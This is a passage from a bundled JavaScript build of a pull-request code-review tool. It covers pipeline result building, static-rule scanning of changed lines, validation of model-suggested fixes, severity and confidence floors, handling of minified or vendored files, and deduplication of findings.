    return lines;
}
/** The section itself, in the run's delimiters. */
function knownSection(lines, nonce) {
    const d = (0,_prompt_delimiters_js__WEBPACK_IMPORTED_MODULE_1__/* .delimiters */ .zC)('KNOWN', nonce);
    return [
        '## Already reported (known findings)',
        'Other tools and rules already reported these; each will be posted as it is. Do not repeat them: add only what they miss (a different problem, or one they cannot see). One a line: path:line \u00b7 source \u00b7 title.',
        d.open,
        ...lines,
        d.close,
    ].join('\n');
}
function oneLine(text) {
    const line = text.replace(/\s+/g, ' ').trim();
    return line.length > MAX_KNOWN_TITLE ? `${line.slice(0, MAX_KNOWN_TITLE - 1)}\u2026` : line;
}


/***/ }),

/***/ 47984:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  a: () => (/* binding */ runPipeline)
});

// UNUSED EXPORTS: stagesFor

// EXTERNAL MODULE: ./.tmp/bundle-src/core/types.js + 1 modules
var types = __webpack_require__(13281);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/pipeline-result.js
/**
 * The pipeline's result, read off the final finding set: what the report, the gate and the poster
 * need, counted from what the stages held back (`FindingSet.hidden`) rather than kept on the side.
 */

/** Builds the pipeline's result from the set the last stage returned. */
function buildResult(set, run) {
    const { kept, excluded, classes, unconfirmed } = set.files;
    const { reach } = set;
    const scanned = new Set(reach.staticScanned);
    const hiddenAs = (why) => set.hidden.filter((h) => h.why === why).map((h) => h.finding);
    return {
        kept,
        read: kept.filter((f) => scanned.has(f.path) || reach.modelFiles.includes(f)).length,
        excluded,
        findings: set.findings,
        unanchored: set.unanchored,
        warnings: set.warnings,
        lenses: set.lenses,
        // The packs' share of the prompt is counted by the model half; the meter sees only responses.
        usage: reach.contextPackTokens === undefined
            ? run.usage
            : {
                ...run.usage,
                context_pack_tokens: reach.contextPackTokens,
                context_pack_cut_tokens: reach.contextPackCutTokens ?? 0,
            },
        incomplete: set.incomplete,
        merged: commentsSaved(set.merges, run.settings),
        rejected: hiddenAs('rejected').length,
        members: new Map(set.merges.map(({ finding, sources }) => [
            finding.fingerprint,
            [...new Set(sources.map((f) => f.fingerprint))].sort(),
        ])),
        classes,
        coverage: {
            static_files: reach.staticScanned.length,
            static_rules: reach.staticRules,
            model: run.withModel,
            model_files: reach.modelFiles.length,
            test_files: [...classes.values()].filter((c) => c === 'test').length,
        },
        belowMinSeverity: {
            min_severity: run.settings.minSeverity,
            findings: hiddenAs('severity')
                .map(named)
                .sort((a, b) => a.path.localeCompare(b.path) || a.line - b.line),
        },
        droppedByAudit: set.droppedByAudit,
        suppressedInline: reach.suppressedInline,
        preExisting: hiddenAs('pre-existing').map(named),
        heldBack: {
            max: run.settings.maxMinorFindings ?? 0,
            maxAll: run.settings.maxFindings ?? 0,
            findings: hiddenAs('budget').map(named),
        },
        imported: reach.imported,
        unconfirmed,
    };
}
/**
 * Inline comments the merge saved among those the floors let through: each merged comment that is
 * shown stands for its members that would have been shown on their own.
 */
function commentsSaved(merges, floors) {
    const shown = (f) => types/* SEVERITY_RANK */.f3[f.severity] >= types/* SEVERITY_RANK */.f3[floors.minSeverity] && f.confidence >= floors.minConfidence;
    return merges.reduce((saved, { finding, sources }) => saved + sources.filter(shown).length - (shown(finding) ? 1 : 0), 0);
}
function named(f) {
    return { path: f.path, line: f.line, severity: f.severity, title: f.title, rule: f.rule };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/review/select/path-filter.js
var path_filter = __webpack_require__(15293);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/languages.js
var languages = __webpack_require__(21913);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/compiled-rules.js
var compiled_rules = __webpack_require__(56657);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/static-limits.js
var static_limits = __webpack_require__(69375);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/run-static-rules.js + 4 modules
var run_static_rules = __webpack_require__(71918);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/scan-file.js + 43 modules
var scan_file = __webpack_require__(73514);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/scan-changed-lines.js




/**
 * The findings of `compiled` on `file`'s changed lines; `tree` is the file parsed with its grammar
 * (null when it has none the rules read). Failures and caps are reported as runStaticRules does.
 */
function scanChangedLines(compiled, file, tree, limits = static_limits/* STATIC_LIMITS */.A) {
    const result = { findings: [], failed: [], overLimits: [] };
    if (file.changedLines.size === 0)
        return result;
    const isTest = file.role === 'test';
    const covering = compiled.checks.filter((c) => c.covers(file.path));
    const language = (0,languages/* grammarOf */.Le)(file.path);
    if (covering.length === 0 && !language)
        return result;
    const over = (0,static_limits/* overStaticLimits */.F)(file.content, limits);
    if (over !== null) {
        result.overLimits.push({ path: file.path, reason: over });
        return result;
    }
    const found = [];
    for (const check of covering) {
        const hits = (0,scan_file/* guarded */.Nj)(check.language, file, result.failed, () => (0,run_static_rules/* runCheck */.k_)(check, file)) ?? [];
        found.push(...(isTest ? hits.map(scan_file/* gradedForTests */.MJ) : hits));
    }
    if (language && tree && compiled.support.check(language).ok) {
        const applicable = compiled.rulesFor(language).filter((r) => (0,run_static_rules/* ruleApplies */.bF)(r, file));
        if (applicable.length > 0)
            found.push(...(0,scan_file/* scanFile */.WN)(file, language, applicable, result.failed, tree).findings);
    }
    result.findings = found;
    return result;
}

// EXTERNAL MODULE: ./.tmp/bundle-src/prompt/redact.js
var redact = __webpack_require__(55741);
// EXTERNAL MODULE: ./.tmp/bundle-src/review/stages/check-suggestions/apply.js
var apply = __webpack_require__(47397);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/check-suggestions/range.js
// A rewritten line keeps most of its names (`new Buffer(s)` \u2192 `Buffer.from(s)`); a line the block lost
// keeps at most a name that other lines share (`track('save', item.id)` next to `onSave(item)`).
const KEPT_SHARE = 0.5;
// The lines after the range count as rewritten by the block when it carries at least this share of
// their own names, and they have at least this many (742-743: 4 of 5, "production" reworded away).
const REWRITTEN_SHARE = 0.75;
const MIN_REWRITTEN_NAMES = 2;
// Words that say nothing about which line a suggestion meant: a rewrite drops an `else` or a `const`
// without the finding naming them.
const KEYWORDS = new Set(('if else elif for while do return const let var new await async function def class try catch except ' +
    'finally throw raise switch case break continue default this self true false null undefined None True ' +
    'False nil import from export public private protected static void pass in of is not and or fn func ' +
    'go defer yield with as end then type interface struct').split(' '));
/** Why the suggestion does not fit its range, or null when nothing shows it was written for other lines. */
function rangeError(content, finding) {
    const suggestion = (finding.suggestion ?? '').replace(/\r\n/g, '\n').replace(/\n$/, '');
    const file = content.replace(/\r\n/g, '\n').split('\n');
    const first = finding.start_line ?? finding.line;
    const replaced = file.slice(first - 1, finding.line);
    const added = suggestion === '' ? [] : suggestion.split('\n');
    const after = file.slice(finding.line, finding.line + added.length);
    const before = file.slice(Math.max(0, first - 1 - added.length), first - 1);
    for (const side of ['tail', 'head']) {
        const k = repeatedRun(added, side === 'tail' ? after : before, side);
        if (k > 0 && !keepsOwn(added, replaced, k, side) && isCopy(added, k, side, replaced))
            return repeatReason(side, k, first, finding.line);
    }
    const rewritten = rewrittenAfter(replaced, added, after);
    if (rewritten > 0)
        return (`its block has ${added.length - replaced.length} more line(s) than its range (${span(first, finding.line)}) ` +
            `and rewrites ${span(finding.line + 1, finding.line + rewritten)} after it too: committed, those lines ` +
            `stay and the code appears twice; the block seems written for ${span(first, finding.line + rewritten)}`);
    const dropped = droppedLine(replaced, added, finding);
    if (dropped === null)
        return null;
    return (`it deletes line ${first + dropped.index} (\`${dropped.text.trim()}\`), which the finding does not ` +
        `mention: the block seems written for fewer lines than ${span(first, finding.line)}`);
}
/** The range error of a block that copies `k` lines next to its range on one side. */
function repeatReason(side, k, first, last) {
    const [from, to] = side === 'tail' ? [last + 1, last + k] : [first - k, first - 1];
    const where = side === 'tail' ? 'follow' : 'precede';
    const meant = side === 'tail' ? span(first, last + k) : span(first - k, last);
    return (`it repeats ${span(from, to)}, which ${where}${k === 1 ? 's' : ''} its range (${span(first, last)}): ` +
        `committed, ${k === 1 ? 'it' : 'they'} would appear twice; the block seems written for ${meant}`);
}
/**
 * The longest run of lines the suggestion shares with the neighbours on one side: its last lines
 * equal to the first lines after the range (`tail`), or its first lines equal to the last ones
 * before it (`head`). Compared without surrounding whitespace, as a model re-indents what it copies.
 */
function repeatedRun(added, neighbours, side) {
    for (let k = Math.min(added.length, neighbours.length); k > 0; k--) {
        const mine = side === 'tail' ? added.slice(-k) : added.slice(0, k);
        const theirs = side === 'tail' ? neighbours.slice(0, k) : neighbours.slice(-k);
        if (mine.every((line, i) => line.trim() === theirs[i]?.trim()))
            return k;
    }
    return 0;
}
/**
 * Whether the run is the range's own edge kept as it was: a file that has the same line twice in a
 * row (`}` over `}`, two `i++;`) gives a suggestion that keeps its last line a neighbour's look.
 */
function keepsOwn(added, replaced, k, side) {
    if (replaced.length < k)
        return false;
    const edge = (lines) => (side === 'tail' ? lines.slice(-k) : lines.slice(0, k));
    const own = edge(replaced);
    return edge(added).every((line, i) => line.trim() === own[i]?.trim());
}
/**
 * A repeated run is a copy when it holds code (a word), or, made of brackets alone (`}`, `});`),
 * when it is exactly what unbalances the block: without it the suggestion opens and closes what the
 * replaced lines did. A blank line twice is harmless, and a `}` that closes a block the suggestion
 * opened is its own.
 */
function isCopy(added, k, side, replaced) {
    const run = side === 'tail' ? added.slice(-k) : added.slice(0, k);
    if (run.every((line) => line.trim() === ''))
        return false;
    if (run.some((line) => /\w/.test(line)))
        return true;
    const rest = side === 'tail' ? added.slice(0, added.length - k) : added.slice(k);
    return balance(run) !== 0 && balance(rest) === balance(replaced);
}
/** Opening minus closing brackets; strings are not skipped, which only makes a copy look less likely. */
function balance(lines) {
    let depth = 0;
    for (const ch of lines.join('\n')) {
        if (ch === '(' || ch === '[' || ch === '{')
            depth++;
        else if (ch === ')' || ch === ']' || ch === '}')
            depth--;
    }
    return depth;
}
/**
 * How many lines after the range the block rewrote as well, or 0: the block outnumbers its range by
 * `extra` lines, and the next `extra` lines' own names (those the range does not have) are nearly all
 * in it. A comment on 166 whose block swaps 166 with 167-169 copies no line verbatim, but carries their
 * names; a block that only adds a guard shares at most a variable with the line after it.
 */
function rewrittenAfter(replaced, added, after) {
    const extra = added.length - replaced.length;
    if (extra < 1)
        return 0;
    const own = new Set(replaced.flatMap(namesOf));
    const next = after.slice(0, extra);
    const names = [...new Set(next.flatMap(namesOf))].filter((w) => !own.has(w));
    if (names.length < MIN_REWRITTEN_NAMES)
        return 0;
    const inBlock = new Set(added.flatMap(namesOf));
    const carried = names.filter((w) => inBlock.has(w)).length;
    if (carried < names.length * REWRITTEN_SHARE)
        return 0;
    return next.length;
}
/** The names of a line long enough to tell lines apart (`i`, `x`, `n` of an escape are everywhere). */
function namesOf(line) {
    return wordsOf(line).filter((w) => w.length > 1);
}
/**
 * The first replaced line most of whose names are gone from the suggestion (fewer than `KEPT_SHARE`
 * survive anywhere in it) and whose lost names the finding does not use either: a line the model left
 * out, not one it meant to remove. A suggestion that deletes the whole range says so by being empty,
 * and a line of brackets and keywords alone is the parser's job.
 */
function droppedLine(replaced, added, finding) {
    // One replaced line is the flagged line itself: the finding is about it, whatever the block keeps.
    if (added.length === 0 || replaced.length < 2)
        return null;
    const kept = new Set(added.flatMap(wordsOf));
    const said = new Set([finding.title, finding.body, finding.anchor].flatMap(wordsOf).map((w) => w.toLowerCase()));
    for (const [index, text] of replaced.entries()) {
        const words = [...new Set(wordsOf(text))];
        const missing = words.filter((w) => !kept.has(w));
        if (words.length === 0 || missing.length <= words.length * (1 - KEPT_SHARE))
            continue;
        if (missing.some((w) => said.has(w.toLowerCase())))
            continue;
        return { index, text };
    }
    return null;
}
/** The names on a line: identifiers, without the keywords any rewrite may drop (numbers are values). */
function wordsOf(line) {
    return (line.match(/[A-Za-z_$][\w$]*/g) ?? []).filter((w) => !KEYWORDS.has(w));
}
function span(from, to) {
    return from === to ? `line ${from}` : `lines ${from}-${to}`;
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/napi.js
var napi = __webpack_require__(77058);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/check-suggestions/syntax.js


// Both searches run inside ast-grep: walking the tree from JavaScript crosses into native code once
// per node, which cost ~65 ms on a 500-line file against ~3 ms here.
const ERROR_NODE = { rule: { kind: 'ERROR' } };
// A node of zero width covers no character of the source: the parser inserted it. Only leaves count,
// so an empty node around an inserted token is not counted twice.
const ZERO_WIDTH_LEAF = {
    rule: { regex: '^$', not: { has: { regex: '[\\s\\S]*', stopBy: 'neighbor' } } },
};
/** The parsed tree of `content` as `language`. */
function parseFile(content, language) {
    return (0,napi/* napi */.H)().parse((0,languages/* napiLang */.zG)(language), content).root();
}
/** ERROR nodes plus MISSING tokens in a parsed file (`content` is the text it was parsed from). */
function syntaxErrorsOf(root, content) {
    const errors = root.findAll(ERROR_NODE).length;
    // The root of an empty file is the one zero-width leaf that is not an error.
    return errors + (content.length > 0 ? root.findAll(ZERO_WIDTH_LEAF).length : 0);
}
/** ERROR nodes plus MISSING tokens in `content` parsed as `language`. */
function countSyntaxErrors(content, language) {
    return syntaxErrorsOf(parseFile(content, language), content);
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/check-suggestions/check-suggestions.js







const NOTHING = { findings: [], failed: [], overLimits: [] };
/** The findings with `suggestion_check` and `suggestion_reason` set on each one that has a suggestion. */
async function checkSuggestions(findings, contents, options = {}) {
    if (!findings.some((f) => f.suggestion !== null))
        return [...findings];
    const support = options.languages ?? languages/* processLanguages */.Fw;
    // Loading and compiling the rules is most of a small check's cost: once per run, not per suggestion.
    const compiled = await (0,compiled_rules/* compileStaticRules */.DA)({
        ...(options.rulesDir !== undefined ? { rulesDir: options.rulesDir } : {}),
        languages: support,
    });
    const suggested = findings.filter((f) => f.suggestion !== null).map((f) => f.path);
    await (0,compiled_rules/* loadChecksFor */.$G)(compiled.checks, suggested);
    const originals = new Map();
    return findings.map((finding) => {
        if (finding.suggestion === null)
            return finding;
        const outcome = checkOne(finding, contents.get(finding.path), support, compiled, originals, options);
        return { ...finding, suggestion_check: outcome.check, suggestion_reason: outcome.reason };
    });
}
/** Applies, parses and re-reviews one suggestion. */
function checkOne(finding, content, support, compiled, originals, options) {
    if (content === null || content === undefined)
        return { check: 'unchecked', reason: `the contents of ${finding.path} were not read` };
    const applied = (0,apply/* applySuggestion */.T)(content, finding, finding.suggestion ?? '');
    if ('error' in applied)
        return { check: 'broken', reason: `it cannot be applied: ${applied.error}` };
    const placeholder = redactedPlaceholder(content, finding);
    if (placeholder !== null)
        return { check: 'broken', reason: placeholder };
    const range = rangeError(content, finding);
    if (range !== null)
        return { check: 'broken', reason: range };
    if (applied.indentation !== null)
        return { check: 'broken', reason: applied.indentation };
    const language = (0,languages/* grammarOf */.Le)(finding.path);
    if (language === undefined)
        return { check: 'unchecked', reason: 'no grammar of the static lens reads this file type' };
    const available = support.check(language);
    if (!available.ok)
        return { check: 'unchecked', reason: available.reason };
    const original = originalOf(finding.path, content, language, originals);
    const tree = parseFile(applied.content, language);
    const added = syntaxErrorsOf(tree, applied.content) - original.errors;
    if (added > 0)
        return {
            check: 'broken',
            reason: `it adds ${added} syntax error${added === 1 ? '' : 's'} (${language})`,
        };
    const role = options.roles?.get(finding.path) ?? 'source';
    const first = finding.start_line ?? finding.line;
    const replaced = Array.from({ length: finding.line - first + 1 }, (_, i) => first + i);
    const before = { path: finding.path, content, changedLines: new Set(replaced), role };
    const after = {
        path: finding.path,
        content: applied.content,
        changedLines: new Set(applied.lines),
        role,
    };
    const now = scanChangedLines(compiled, after, tree);
    // The file as it was matters only for the rules that fire after: most suggestions need one scan.
    const was = now.findings.length > 0 ? scanChangedLines(compiled, before, original.tree) : NOTHING;
    return reviewOutcome(finding, was, now, rulesRun(compiled, after, language));
}
/**
 * The model saw `[REDACTED]` where the file has a secret (src/prompt/redact.ts); a suggestion that
 * copies the placeholder would commit it in place of the real value. Null when it holds no more of
 * them than the lines it replaces.
 */
function redactedPlaceholder(content, finding) {
    const count = (text) => text.split(redact/* REDACTED */.XF).length - 1;
    const first = finding.start_line ?? finding.line;
    const replaced = content
        .split('\n')
        .slice(first - 1, finding.line)
        .join('\n');
    if (count(finding.suggestion ?? '') <= count(replaced))
        return null;
    return `it holds ${redact/* REDACTED */.XF}, the placeholder the model saw instead of a secret, and would commit it`;
}
/** The ids of the rules the re-review ran on this file: its language's rules and the checks covering it. */
function rulesRun(compiled, file, language) {
    const test = file.role === 'test';
    const ids = compiled
        .rulesFor(language)
        .filter((r) => !(test && r.inTests === 'skip'))
        .map((r) => r.id);
    for (const check of compiled.checks)
        if (check.covers(file.path))
            ids.push(...check.rules.map((r) => r.id));
    return new Set(ids);
}
function originalOf(path, content, language, originals) {
    const known = originals.get(path);
    if (known?.content === content)
        return known;
    const tree = parseFile(content, language);
    const original = { content, language, tree, errors: syntaxErrorsOf(tree, content) };
    originals.set(path, original);
    return original;
}
/**
 * Compares the rules that fire on the replaced lines before and after: a rule that only fires after
 * is a finding the suggestion brings in; the finding's own rule still firing means it fixes nothing.
 * Only a rule's own fix, checked by that rule (`ran` holds the rules the re-review ran), is verified.
 */
function reviewOutcome(finding, before, after, ran) {
    const failed = after.failed.find((f) => f.path === finding.path) ??
        after.overLimits.find((f) => f.path === finding.path);
    if (failed)
        return { check: 'unchecked', reason: `the re-review did not finish: ${failed.reason}` };
    const rulesOn = (result) => new Set(result.findings.filter((f) => f.path === finding.path).map((f) => f.ruleId));
    const [was, now] = [rulesOn(before), rulesOn(after)];
    const added = [...now].filter((rule) => !was.has(rule)).sort();
    if (added.length > 0)
        return { check: 'broken', reason: `it adds a finding of rule ${added.join(', ')}` };
    if (finding.rule !== null && now.has(finding.rule))
        return {
            check: 'broken',
            reason: `rule ${finding.rule} still fires on the patched lines, so the suggestion does not fix the problem`,
        };
    const own = finding.suggestion_rule;
    if (own !== undefined && own === finding.rule && ran.has(own))
        return { check: 'verified', reason: `it parses and rule ${own} no longer fires` };
    // Nothing re-checked the problem itself: only that the code still parses and brings no new
    // finding, which the reader must not take for "verified".
    return {
        check: 'parses',
        reason: `it parses and the static rules find nothing new on its lines, but ${unverifiable(finding, ran)}`,
    };
}
/** Why no rule could confirm the fix, in the words of the `parses` reason. */
function unverifiable(finding, ran) {
    const tail = 'so whether it fixes the problem could not be verified';
    if (finding.rule === null)
        return `no rule backs the finding, ${tail}`;
    if (!ran.has(finding.rule))
        return `rule ${finding.rule} is not one prlens runs on this file (${finding.lens} reported it), ${tail}`;
    return `it is not rule ${finding.rule}'s own fix (it comes from ${finding.lens
        .split('+')
        .filter((l) => l !== 'static')
        .join('+') || 'another source'}), ${tail}`;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/check-suggestions/suggestions-stage.js

/** Re-checks each shown finding's suggested code and keeps only suggestions that apply cleanly. */
async function suggestions_stage_checkSuggestions(set) {
    const roles = new Map([...set.files.classes].map(([path, c]) => [path, c === 'test' ? 'test' : 'source']));
    return { ...set, findings: await checkSuggestions(set.findings, set.files.contents, { roles }) };
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/floors/apply-floors.js
/**
 * The floors stage's check: the severity floor, the confidence floor and the ignored fingerprints
 * (the suppress stage applies those first; a caller outside the pipeline may pass them here). Pure,
 * so every limit is tested without a pipeline.
 */

/** Applies the severity floor, the confidence floor and the ignored fingerprints. */
function applyPolicy(findings, options) {
    const kept = [];
    const dropped = [];
    for (const finding of findings) {
        if (options.ignoredFingerprints?.has(finding.fingerprint))
            dropped.push({ finding, reason: 'ignored' });
        else if (types/* SEVERITY_RANK */.f3[finding.severity] < types/* SEVERITY_RANK */.f3[options.minSeverity])
            dropped.push({ finding, reason: 'severity' });
        else if (finding.confidence < options.minConfidence)
            dropped.push({ finding, reason: 'confidence' });
        else
            kept.push(finding);
    }
    return { kept, dropped };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/core/findings-budget.js
var findings_budget = __webpack_require__(99139);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/floors/floors.js


/** Holds back the findings below the severity or confidence floor, then those over the budgets. */
function floors(set, run) {
    const options = { minSeverity: run.settings.minSeverity, minConfidence: run.settings.minConfidence };
    const inline = applyPolicy(set.findings, options);
    const unanchored = applyPolicy(set.unanchored, options);
    const hidden = [...inline.dropped, ...unanchored.dropped].map(({ finding, reason }) => ({
        finding,
        why: reason,
    }));
    const max = { minor: run.settings.maxMinorFindings ?? 0, all: run.settings.maxFindings ?? 0 };
    const budget = (0,findings_budget/* applyFindingsBudget */.i)(inline.kept, unanchored.kept, max, { gate: run.settings.failOn ?? [] });
    const over = budget.heldBack.map((finding) => ({ finding, why: 'budget' }));
    return {
        ...set,
        findings: budget.findings,
        unanchored: budget.unanchored,
        hidden: [...set.hidden, ...hidden, ...over],
    };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/review/stages/imported/imported-findings.js
var imported_findings = __webpack_require__(65282);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/imported/import-stage.js

/** The stage that adds the imported results' findings (none without results). */
function imported(input) {
    return (set) => {
        if (!input)
            return set;
        const mapped = (0,imported_findings/* importedFindings */.Nj)(input.results, set.files.kept, input.options);
        return {
            ...set,
            // Off the diff ones carry `anchored: false`: the verify stage lists them in the summary.
            findings: [...set.findings, ...mapped.findings, ...mapped.unplaced],
            lenses: [...set.lenses, ...new Set(mapped.stats.tools.map(imported_findings/* toolId */.MS))],
            warnings: [...set.warnings, ...input.problems],
            incomplete: set.incomplete || input.problems.length > 0,
            reach: { ...set.reach, imported: mapped.stats },
        };
    };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/review/select/select.js
var select_select = __webpack_require__(30857);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/lookalike-files/lookalike-files.js
/**
 * The lookalike-files stage: on a new file that only looks generated or vendored (the base does not
 * say so), only the findings that can fail a gate are reported, and none on a minified line.
 */


/**
 * On a new file that only looks vendored or generated, the findings that can fail a gate (high and
 * critical) are kept: the point is that a PR cannot hide code there. Lower ones are a library's own
 * noise (an empty catch in a minified copy) and are left out, counted in a warning.
 *
 * A rule's match on a minified line of such a file (the line itself longer than a hand-written line
 * ever is) is not a finding either, whatever its severity: module loaders, template engines and
 * workers in every bundle `eval` and `new Function` their own code (RequireJS, underscore, Ace's
 * workers), and no reviewer can read the line the comment would sit on. CodeQL hides alerts in
 * minified code for the same reason (github/codeql#510); Semgrep can skip such files
 * (`--exclude-minified-files`, 1.80.0). The file is named in a warning as not reviewable line by
 * line, with the rules that matched, so it is never passed over in silence. A match on a line of
 * ordinary length in the same file is reported as before: a planted `eval` beside a bundle still
 * fails the gate. And a PR must not be able to hide a payload by writing it on one long line: when
 * a held match could have failed a gate (high or critical), the review is incomplete, which never
 * exits 0 nor posts "looks good" (the warning says how a vendored copy is marked in the base).
 */
function lookalikeFiles(set) {
    const looks = new Map(set.files.unconfirmed.map((u) => [u.path, u.looked]));
    if (!set.findings.some((f) => looks.has(f.path)))
        return set;
    const held = [];
    const findings = [];
    for (const finding of set.findings) {
        const looked = looks.get(finding.path);
        if (looked === undefined)
            findings.push(finding);
        else if (onMinifiedLine(finding))
            held.push({ finding, why: 'minified-line' });
        else if (types/* SEVERITY_RANK */.f3[finding.severity] < types/* SEVERITY_RANK */.f3.high)
            held.push({ finding, why: 'lookalike-file' });
        else
            findings.push(withLook(finding, looked));
    }
    return {
        ...set,
        findings,
        hidden: [...set.hidden, ...held],
        warnings: [...set.warnings, ...heldWarnings(held, looks)],
        incomplete: set.incomplete || held.some((h) => h.why === 'minified-line' && couldFailAGate(h.finding)),
    };
}
/**
 * A finding kept on a lookalike file says what the file looked like, so a reviewer who reads
 * "vendored (library banner: \u2026)" knows the banner is the change's own word, not the base's.
 */
function withLook(finding, looked) {
    return {
        ...finding,
        body: `${finding.body}\n\nThis new file looks ${looked}, which the base does not confirm: ` +
            "it is reviewed as the change's own code.",
    };
}
function couldFailAGate(finding) {
    return types/* SEVERITY_RANK */.f3[finding.severity] >= types/* SEVERITY_RANK */.f3.high;
}
/** Whether the line a finding quotes is a bundler's line, not one a person wrote or can review. */
function onMinifiedLine(finding) {
    return finding.start_line === null && finding.anchor.length > select_select/* MINIFIED_LINE_LENGTH */.g_;
}
function heldWarnings(held, looks) {
    const quiet = held.filter((h) => h.why === 'lookalike-file');
    const minified = held.filter((h) => h.why === 'minified-line').map((h) => h.finding);
    const warnings = [];
    if (quiet.length > 0)
        warnings.push(`${quiet.length} low or medium finding(s) on new files that look vendored or generated were left out: ` +
            'only high and critical findings are reported there, and the files were not reviewed as project code ' +
            `(${namedLooks(quiet, looks)}; mark such paths in the base .gitattributes to skip them)`);
    if (minified.length > 0)
        warnings.push(minifiedWarning(minified));
    return warnings;
}
/** Files the warning names one by one; a whole-tree scan of a web app can add dozens of bundles. */
const NAMED_FILES = 10;
/** The files of `held` with what each looked like, NAMED_FILES at most: `f.js: vendored (\u2026)`. */
function namedLooks(held, looks) {
    const paths = [...new Set(held.map((h) => h.finding.path))];
    const named = paths.slice(0, NAMED_FILES).map((p) => `${p}: ${looks.get(p) ?? 'vendored or generated'}`);
    const more = paths.length - named.length;
    return named.join('; ') + (more > 0 ? `; and ${more} more file(s)` : '');
}
/** One sentence naming each new file with rule matches on minified lines, and the rules. */
function minifiedWarning(findings) {
    const byPath = new Map();
    for (const f of findings) {
        const rules = byPath.get(f.path) ?? new Set();
        rules.add(`${f.rule ?? f.lens} (line ${f.line})`);
        byPath.set(f.path, rules);
    }
    const named = [...byPath].slice(0, NAMED_FILES).map(([path, rules]) => `${path}: ${[...rules].join(', ')}`);
    const more = byPath.size - named.length;
    const files = named.join('; ') + (more > 0 ? `; and ${more} more file(s)` : '');
    const gate = findings.some(couldFailAGate)
        ? ' The review is incomplete: a high or critical rule matched code nobody can review on its line.'
        : '';
    return (`${byPath.size} new file(s) that look minified or vendored have rule matches on minified lines, ` +
        `not reported as findings and not reviewable line by line: ${files}.${gate} ` +
        'Check such files against their upstream release or build them in CI ' +
        '(mark them in the base .gitattributes to skip them)');
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/merge/dedupe.js
/**
 * One finding per identity, for the dedupe stage (dedupe-stage.ts), which runs it once over every
 * lens's findings. Identity is wording-free (the fingerprint: path, normalised category, normalised
 * anchor), so two lenses phrasing one problem differently, or a rerun rewording it, collapse into
 * one. Findings of one problem under different identities are the merge stage's (merge-findings.ts).
 * The helpers that combine members (lens names, the suggestion a merged finding may carry) serve
 * both stages of this folder.
 */

/** Orders findings best first: most severe, then most confident, then pinned to a line. */
function better(a, b) {
    const bySeverity = types/* SEVERITY_RANK */.f3[a.severity] - types/* SEVERITY_RANK */.f3[b.severity];
    if (bySeverity !== 0)
        return bySeverity > 0;
    if (a.confidence !== b.confidence)
        return a.confidence > b.confidence;
    return a.anchored && !b.anchored;
}
/** Lens names joined with `+`, each once, in `order` (the configured lens order) where known. */
function mergeLensNames(names, order = []) {
    const unique = [...new Set(names.flatMap((n) => n.split('+')).filter((n) => n !== ''))];
    const rank = (n) => {
        const i = order.indexOf(n);
        return i === -1 ? order.length : i;
    };
    // Stable sort: unknown lenses keep their first-seen order after the known ones.
    return unique.sort((a, b) => rank(a) - rank(b)).join('+');
}
/** A finding of prlens's own static rules (its lens is or includes `static`), merged or not. */
function isPrlensRule(f) {
    return f.rule !== null && f.lens.split('+').includes('static');
}
/**
 * The suggestion a merged finding may carry, from the members at its range: a prlens rule's own
 * fix (or none) when a rule is a member, since only that fix can be re-checked by what flagged
 * it; otherwise the first member's at that range. A model's code never rides on a rule's finding.
 */
function mergedSuggestion(members, atRange) {
    const rules = members.filter(isPrlensRule);
    const from = (rules.length > 0 ? rules : members).find((f) => atRange(f) && f.suggestion !== null);
    if (from === undefined)
        return { suggestion: null };
    const own = from.suggestion_rule !== undefined && from.suggestion_rule === from.rule;
    return own
        ? { suggestion: from.suggestion, suggestion_rule: from.suggestion_rule }
        : { suggestion: from.suggestion };
}
/**
 * One finding per fingerprint: the most severe and most confident one, carrying every lens that
 * reported it. When the best one could not be pinned but a duplicate was, the pinned location wins.
 * When a prlens rule reported it, the rule's title and text lead (a model cannot rename it) and its
 * own fix, or none, is the suggestion.
 */
function dedupeFindings(findings, lensOrder = []) {
    const groups = new Map();
    for (const finding of findings) {
        const group = groups.get(finding.fingerprint);
        if (group)
            group.push(finding);
        else
            groups.set(finding.fingerprint, [finding]);
    }
    const merged = [];
    for (const group of groups.values()) {
        let best = group[0];
        for (const f of group.slice(1))
            if (better(f, best))
                best = f;
        const lens = mergeLensNames(group.map((f) => f.lens), lensOrder);
        const rule = group.find(isPrlensRule)?.rule ?? best.rule ?? group.find((f) => f.rule !== null)?.rule ?? null;
        const lead = group.find(isPrlensRule) ?? best;
        const { suggestion_rule: _fromMergedSuggestion, ...head } = lead;
        const graded = {
            ...head,
            severity: best.severity,
            confidence: Math.max(...group.map((f) => f.confidence)),
        };
        // A rule's place leads too: its own fix was written for it.
        const pinned = [lead, best].find((f) => f.anchored) ?? group.find((f) => f.anchored);
        if (!pinned) {
            merged.push({ ...graded, lens, rule, ...mergedSuggestion(group, (f) => f === lead) });
            continue;
        }
        // A suggestion fits only the range it was written for: take one from a duplicate at that range.
        const sameRange = (f) => f.anchored && f.line === pinned.line && f.start_line === pinned.start_line && f.side === pinned.side;
        merged.push({
            ...graded,
            line: pinned.line,
            start_line: pinned.start_line,
            side: pinned.side,
            anchor: pinned.anchor,
            anchored: true,
            ...mergedSuggestion(group, sameRange),
            lens,
            rule,
        });
    }
    return merged;
}

